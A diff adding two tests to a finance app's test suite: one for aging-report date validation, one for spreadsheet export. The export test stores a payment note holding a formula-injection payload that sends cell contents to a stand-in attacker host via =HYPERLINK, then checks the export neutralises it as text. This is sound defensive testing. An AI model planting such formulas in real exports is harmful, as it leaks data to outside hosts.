@@ -453,3 +453,24 @@ def test_a_partly_paid_history_reads_right_on_a_past_date(shop, dealer_one, hq_a
     assert report.total.buckets["days_31_60"] == Decimal("300.00")
     past = en_client(finance).get("/hq/aging/", {"as_of": (today - datetime.timedelta(days=31)).isoformat()})
     assert past.context["report"].total.buckets["days_1_30"] == Decimal("400.00")
+
+
+def test_text_that_would_run_as_a_formula_is_exported_as_text(shop, dealer_one, finance, en_client):
+    services.payment_record(
+        actor=finance,
+        dealer=dealer_one,
+        amount="10",
+        received_on=datetime.date.today(),
+        reference="BANK-9",
+        note='=HYPERLINK("http://evil.example/?"&A1,"x")',
+    )
+    response = en_client(finance).get("/hq/payments/?export=xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    notes = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
+    assert [(cell.data_type, cell.value[0]) for cell in notes] == [("s", "'")]
+
+
+def test_an_aging_date_before_any_business_is_a_message(shop, finance, en_client):
+    response = en_client(finance).get("/hq/aging/?as_of=0001-01-01")
+    assert response.status_code == 200
+    assert "cannot be before 2000-01-01" in text(response)
